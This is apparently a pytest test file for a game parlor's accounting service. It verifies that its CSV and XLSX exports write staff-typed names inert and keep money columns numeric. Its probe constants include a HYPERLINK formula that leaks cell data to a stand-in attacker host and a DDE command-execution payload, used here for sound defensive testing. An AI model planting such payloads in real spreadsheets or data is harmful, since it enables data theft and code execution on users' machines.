"""No export runs a formula: names staff type are written inert, numbers stay numbers (issue 29).

The probes are the issue's: players named ``=HYPERLINK(...)``, ``+1+1``,
``-1+1``, ``@SUM(1+1)``, a table and a ruleset configuration whose names start
with a tab and a carriage return, a member number that looks like a negative
number, a correction whose reason is ``=1+1``, a manager whose username
starts with ``@``. Every file the service writes that a spreadsheet opens (the
settlements, ledger entries and penalties exports in CSV and XLSX, the day
report, the standings file in CSV and XLSX) is opened the way a reader does
(``csv``, openpyxl): no cell is a formula, every text that could start one is
read as text (CSV: a single quote before it, as OWASP's CSV Injection page
asks; XLSX: a string cell with the quote prefix), and the money columns are
still numbers: integers in XLSX, unquoted integers in CSV, equal to the books.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.utils import timezone
from openpyxl import load_workbook

from ledger.models import Session
from ledger.play.corrections import hand_void
from ledger.play.hands import hand_record
from parlor.models import Role
from reports.cells import csv_cell
from reports.models import ExportJob, ExportKind
from reports.services import day_reports_build
from tests.api.support import RoleClients
from tests.ledger.factories import SessionFactory, chonbo
from tests.ledger.tasks.support import MONEY, NET
from tests.parlor.factories import PlayerFactory, RulesetConfigFactory, TableFactory, member_of
from tests.reports.support import closed_session
from tests.reports.test_files import run

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
PLAYER_PROBES = [HYPERLINK, "+1+1", "-1+1", "@SUM(1+1)"]
TABLE_PROBE = "\tTable =1+1"
RULESET_PROBE = "\r=cmd|' /C calc'!A0"
MEMBER_PROBE = "-7"
REASON_PROBE = "=1+1 (entered twice)"
USERNAME_PROBE = "@manager+1"
# What a spreadsheet may read as the start of a formula (OWASP, CSV Injection).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
INTEGER = re.compile(r"-?[0-9]+")
DECIMAL = re.compile(r"-?[0-9]+\.[0-9]+")


@dataclass
class Probed:
    """A parlor whose names are the probes: a closed game, and penalties with a correction."""

    closed: Session
    penalties: Session
    manager: User

    @property
    def texts(self) -> set[str]:
        """Every probe text that some export writes."""
        return {*PLAYER_PROBES, TABLE_PROBE, RULESET_PROBE, MEMBER_PROBE}


@pytest.fixture
def probed(staff: User) -> Probed:
    first = PlayerFactory(name=PLAYER_PROBES[0], member_number=MEMBER_PROBE)
    parlor = first.parlor
    players = [first] + [PlayerFactory(parlor=parlor, name=name) for name in PLAYER_PROBES[1:]]
    table = TableFactory(parlor=parlor, name=TABLE_PROBE)
    config = RulesetConfigFactory(
        parlor=parlor,
        name=RULESET_PROBE,
        ruleset_slug="riichi-standard",
        game_options={"length": "east"},
    )
    closed = closed_session(
        by=staff, parlor=parlor, players=players, table=table, ruleset_config=config
    )
    penalties = SessionFactory(parlor=parlor, players=players, ruleset_config=config)
    manager = member_of(parlor, Role.MANAGER, username=USERNAME_PROBE)
    hand_record(session=penalties, hand=chonbo(1), entered_by=staff)
    voided = hand_record(session=penalties, hand=chonbo(2), entered_by=staff)
    hand_void(hand=voided, reason=REASON_PROBE, by=manager)
    return Probed(closed=closed, penalties=penalties, manager=manager)


def _texts(cells: list[Any]) -> list[str]:
    return [cell for cell in cells if isinstance(cell, str)]


def assert_inert_csv(content: bytes, *, probes: set[str]) -> list[dict[str, str]]:
    """Every cell a number or text that cannot start a formula; each probe quoted; the rows."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    risky = [
        cell
        for cell in cells
        if cell.startswith(TRIGGERS) and not (INTEGER.fullmatch(cell) or DECIMAL.fullmatch(cell))
    ]
    assert risky == [], f"cells a spreadsheet would run as formulas: {risky}"
    for probe in probes:
        assert "'" + probe in cells, f"{probe!r} is not written as quoted text"
        assert probe not in cells
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def assert_inert_xlsx(content: bytes, *, probes: set[str]) -> dict[str, list[dict[str, Any]]]:
    """No formula cell (in openpyxl, nor a <f> in the sheets' XML); probes as typed; the rows."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
    workbook = load_workbook(io.BytesIO(content))
    sheets: dict[str, list[dict[str, Any]]] = {}
    seen: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    seen.add(cell.value)
        header, *body = list(sheet.iter_rows(values_only=True))
        sheets[sheet.title] = [dict(zip(header, row, strict=True)) for row in body]
    assert probes <= seen, f"probes not read back as typed: {probes - seen}"
    return sheets


def by_seat(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return sorted(rows, key=lambda row: int(row["seat"]))


def test_settlements_csv_and_xlsx(probed: Probed, staff: User) -> None:
    session = probed.closed
    expected = {*PLAYER_PROBES, TABLE_PROBE, RULESET_PROBE, MEMBER_PROBE}

    job = run(session, staff, kind="settlements", format="csv")
    rows = by_seat(assert_inert_csv(job.file.read(), probes=expected))
    assert [int(row["money"]) for row in rows] == MONEY
    assert [int(row["net_money"]) for row in rows] == NET
    assert [row["player"] for row in rows] == ["'" + name for name in PLAYER_PROBES]

    job = run(session, staff, kind="settlements", format="xlsx")
    sheet = by_seat(assert_inert_xlsx(job.file.read(), probes=expected)["Settlements"])
    assert [row["money"] for row in sheet] == MONEY
    assert all(type(row[column]) is int for row in sheet for column in ("money", "fee", "points"))
    assert [row["player"] for row in sheet] == PLAYER_PROBES
    assert {row["table"] for row in sheet} == {TABLE_PROBE}


def test_ledger_entries_csv_and_xlsx(probed: Probed, staff: User) -> None:
    session = probed.closed
    expected = {*PLAYER_PROBES, TABLE_PROBE, MEMBER_PROBE}

    job = run(session, staff, kind="ledger_entries", format="csv")
    rows = assert_inert_csv(job.file.read(), probes=expected)
    assert sum(int(row["money"]) for row in rows) == 0
    assert any(int(row["money"]) < 0 for row in rows)

    job = run(session, staff, kind="ledger_entries", format="xlsx")
    entries = assert_inert_xlsx(job.file.read(), probes=expected)["Ledger entries"]
    assert all(type(row["money"]) is int and type(row["points"]) is int for row in entries)
    assert sum(row["money"] for row in entries) == 0


def test_penalties_csv_and_xlsx(probed: Probed, staff: User) -> None:
    session = probed.penalties
    expected = {PLAYER_PROBES[1], PLAYER_PROBES[2], REASON_PROBE, USERNAME_PROBE}

    job = run(session, staff, kind="penalties", format="csv")
    rows = assert_inert_csv(job.file.read(), probes=expected)
    voided = next(row for row in rows if row["status"] == "voided")
    assert voided["correction_reason"] == "'" + REASON_PROBE
    assert int(voided["hand"]) == 2 and int(voided["seat"]) == 2

    job = run(session, staff, kind="penalties", format="xlsx")
    sheet = assert_inert_xlsx(job.file.read(), probes=expected)["Penalties"]
    voided_cells = next(row for row in sheet if row["status"] == "voided")
    assert voided_cells["corrected_by"] == USERNAME_PROBE
    assert type(voided_cells["hand"]) is int and type(voided_cells["seat"]) is int


def test_the_day_report(probed: Probed) -> None:
    built = day_reports_build(now=timezone.now() + timedelta(days=1))

    job = ExportJob.objects.get(kind=ExportKind.DAY_REPORT, pk__in=built)
    sheets = assert_inert_xlsx(job.file.read(), probes=probed.texts | {REASON_PROBE})
    assert list(sheets) == [
        "Summary", "Settlements", "Ledger entries", "Penalties", "Counter", "Till",
    ]  # fmt: skip
    summary = sheets["Summary"]
    assert sorted(row["net_money"] for row in summary) == sorted(NET)
    assert all(type(row["games"]) is int for row in summary)


def test_the_standings_file(probed: Probed, api_as: RoleClients) -> None:
    client = api_as("staff")
    expected = {*PLAYER_PROBES, RULESET_PROBE, MEMBER_PROBE}
    query = {"parlor": probed.closed.parlor_id}

    csv_file = client.get("/api/standings/file/", {**query, "file_format": "csv"})
    assert csv_file.status_code == 200, csv_file.content
    rows = assert_inert_csv(csv_file.content, probes=expected)
    assert sorted(int(row["net_money"]) for row in rows) == sorted(NET)
    assert all(DECIMAL.fullmatch(row["average_placement"]) for row in rows)

    xlsx_file = client.get("/api/standings/file/", {**query, "file_format": "xlsx"})
    assert xlsx_file.status_code == 200
    sheet = assert_inert_xlsx(xlsx_file.content, probes=expected)["Standings"]
    assert sorted(row["net_money"] for row in sheet) == sorted(NET)
    assert all(isinstance(row["average_placement"], int | float) for row in sheet)


def test_the_helper_leaves_numbers_dates_and_plain_text_alone() -> None:
    kept = [-1495, 0, Decimal("2.50"), date(2026, 11, 1), "Tanaka", "M0001", "a=b", " =1"]
    assert [csv_cell(value) for value in kept] == kept
    assert csv_cell(None) == ""
    risky = ["=1", "+1", "-1", "@a", "\t1", "\r1"]
    assert [csv_cell(text) for text in risky] == ["'" + text for text in risky]
